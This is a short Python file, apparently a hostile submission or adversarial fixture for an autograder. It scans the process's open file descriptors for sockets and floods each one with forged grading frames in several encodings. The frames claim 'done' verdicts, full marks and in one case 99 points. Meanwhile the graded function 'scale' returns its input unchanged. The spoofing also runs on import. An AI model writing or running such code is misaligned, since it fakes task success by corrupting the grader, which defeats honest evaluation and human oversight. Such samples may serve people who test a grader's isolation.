"""Every socket of the process gets forged frames: verdicts, endings, answers ahead of any question."""

import json
import os
import socket
import stat
import struct

from autograder import wire

VERDICT = {"exercise": "toy.scale", "title": "Scale", "parts": [{"name": "y", "points": 2.0, "max_points": 2.0}]}
FORGED = (
    {"do": "done", "verdict": VERDICT},
    {"exercise": "toy.scale", "points": 2.0},
    {"value": VERDICT, "error": None, "inputs": None, "points": 2.0},
    {"status": "ok", "done": True, "verdict": VERDICT, "points": 99.0},
)


def frames():
    for message in FORGED:
        packed, text = wire.pack(message), json.dumps(message).encode()
        for body in (packed, text, b"C" + packed, b"\1" + packed):
            yield body
            yield struct.pack("!I", len(body)) + body
            yield struct.pack("!Q", len(body)) + body
        yield text + b"\n"


def everywhere():
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            with socket.socket(fileno=os.dup(fd)) as twin:
                for frame in frames():
                    twin.send(frame, socket.MSG_DONTWAIT)
        except OSError:
            pass


def scale(x, w):
    everywhere()
    return x


# %% pair
everywhere()
